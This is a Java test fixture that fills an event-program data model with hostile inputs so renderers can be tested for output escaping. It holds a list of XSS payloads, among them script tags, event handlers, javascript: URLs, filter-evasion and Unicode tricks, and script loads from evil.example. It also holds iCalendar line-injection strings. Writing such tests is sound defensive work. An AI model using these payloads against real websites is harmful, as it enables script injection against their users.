package org.jqsi.core.sample;

import java.math.BigDecimal;
import java.net.URI;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.List;
import org.jqsi.core.model.Activity;
import org.jqsi.core.model.ActivityKind;
import org.jqsi.core.model.Address;
import org.jqsi.core.model.Admission;
import org.jqsi.core.model.Edition;
import org.jqsi.core.model.EditionFormat;
import org.jqsi.core.model.Link;
import org.jqsi.core.model.LocalizedText;
import org.jqsi.core.model.OnlinePlatform;
import org.jqsi.core.model.Partner;
import org.jqsi.core.model.PartnerKind;
import org.jqsi.core.model.PartnerRole;
import org.jqsi.core.model.Person;
import org.jqsi.core.model.PersonRole;
import org.jqsi.core.model.Place;
import org.jqsi.core.model.Price;
import org.jqsi.core.model.ProgramData;
import org.jqsi.core.model.Region;
import org.jqsi.core.model.Registration;
import org.jqsi.core.model.Schedule;
import org.jqsi.core.model.Theme;

/**
 * A program written by an attacker, or by someone pasting from anywhere: every free-text field of every activity,
 * partner, person, place and edition holds the payload under test, one activity per payload. The program is not
 * validated (links may hold {@code javascript:} URLs that the validator would refuse), so that what renders it is
 * tested on its own: defence in depth.
 */
public final class HostileProgram {

    public static final String EDITION = "jqsi-2020";

    /** Script tags, event handlers, broken-out attributes and elements, script URLs, Unicode tricks. */
    public static final List<String> XSS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "</script><script>alert(1)</script>",
            "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<body onload=alert(1)>",
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=javascript:alert(1)></object>",
            "<embed src=javascript:alert(1)>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<a href=javascript:alert(1)>click</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<form action=javascript:alert(1)><button>x</button></form>",
            "<button formaction=javascript:alert(1)>x</button>",
            "<details open ontoggle=alert(1)>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "\"><img src=x onerror=alert(1)>",
            "'><img src=x onerror=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "' onfocus='alert(1)' autofocus='",
            "` onload=`alert(1)",
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " \tjavascript:alert(1)",
            "java\u0000script:alert(1)",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "\u003cscript\u003ealert(1)\u003c/script\u003e",
            "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
            "\u202Etxt.exe\u202C<script>alert(1)</script>",
            "<!--<script>alert(1)//-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "{{constructor.constructor('alert(1)')()}}",
            "${alert(1)}",
            "</style><script>alert(1)</script>",
            "\u2028\u2029</script><script>alert(1)</script>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<style>@import 'javascript:alert(1)';</style>",
            "<link rel=stylesheet href=javascript:alert(1)>",
            "<input onfocus=alert(1) autofocus>",
            "<video><source onerror=alert(1)></video>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>");

    /** Characters that structure an iCalendar feed, and whole lines that would add to it if not escaped. */
    public static final List<String> ICAL = List.of(
            "line one\nline two",
            "line one\r\nline two",
            "bare\rreturn",
            "colon: semicolon; comma, backslash \\ end",
            "\\n is not a newline, \\; is not escaped",
            "\r\nBEGIN:VEVENT\r\nUID:injected@evil\r\nSUMMARY:injected\r\nEND:VEVENT",
            "x\nEND:VEVENT\nBEGIN:VEVENT\nUID:injected@evil\nSUMMARY:injected",
            "x\r\nEND:VCALENDAR\r\nBEGIN:VCALENDAR",
            "x\nATTENDEE;CN=evil:mailto:evil@example.org",
            "x\r\n URL:https://evil.example/",
            "x\r\n\tRRULE:FREQ=SECONDLY",
            "DESCRIPTION:injected;LANGUAGE=en:x",
            "trailing backslash \\",
            "\u0000nul\u0007bell\u001bescape",
            "é".repeat(100) + ";:,\\\n" + "漢".repeat(40),
            "\uD83D\uDE00 emoji at a fold " + "a".repeat(70) + "\uD83D\uDE00");

    private HostileProgram() {
    }

    /** One activity per payload, every text field holding it, plus a partner and an edition that hold them too. */
    public static ProgramData of(List<String> payloads) {
        String all = String.join(" | ", payloads);
        Theme theme = new Theme(LocalizedText.of(payloads.get(0), payloads.get(payloads.size() - 1)),
                LocalizedText.of(all, all), List.of("hostile"));
        Edition edition = new Edition(EDITION, 24, 2020, LocalDate.of(2020, 11, 5), LocalDate.of(2020, 11, 14),
                theme, EditionFormat.HYBRID, List.of(new Person(payloads.get(0), PersonRole.SPOKESPERSON,
                        LocalizedText.of(payloads.get(0), payloads.get(0)))), "hostile-partner-0", List.of());
        List<Partner> partners = new ArrayList<>();
        List<Activity> activities = new ArrayList<>();
        for (int i = 0; i < payloads.size(); i++) {
            String p = payloads.get(i);
            LocalizedText text = LocalizedText.of(p, p);
            partners.add(new Partner("hostile-partner-" + i, text, p.length() <= 40 ? p : p.substring(0, 40),
                    PartnerKind.MEMBER_ORGANISATION, URI.create("https://partner.example/" + i)));
            Place.Venue venue = new Place.Venue(p, new Address(p, p, null), null);
            Place.Online online = new Place.Online(URI.create("https://stream.example/" + i),
                    OnlinePlatform.WEBSITE, "hostile-partner-" + i);
            activities.add(Activity.builder("hostile-" + i)
                    .edition(EDITION)
                    .kind(ActivityKind.values()[i % ActivityKind.values().length])
                    .title(text)
                    .description(text)
                    .schedule(Schedule.Timed.between(LocalDateTime.of(2020, 11, 5 + i % 10, 19, 0),
                            LocalDateTime.of(2020, 11, 5 + i % 10, 21, 0), Region.EASTERN))
                    .place(new Place.Hybrid(venue, online))
                    .region(Region.values()[i % Region.values().length])
                    .partner("hostile-partner-" + i, PartnerRole.ORGANIZER)
                    .person(new Person(p, PersonRole.SPEAKER, text))
                    .person(new Person(p + " (host)", PersonRole.HOST, null))
                    .registration(new Registration(true, URI.create("https://register.example/" + i), p,
                            LocalDate.of(2020, 11, 4)))
                    .admission(Admission.paid(new Price(new BigDecimal("5.00"), text)))
                    .link(new Link(URI.create("https://link.example/" + i), text))
                    .link(new Link(URI.create("javascript:alert(" + i + ")"), text))
                    .link(new Link(URI.create("data:text/html,x" + i), text))
                    .themeTag("hostile")
                    .build());
        }
        return new ProgramData(List.of(edition), partners, activities);
    }
}
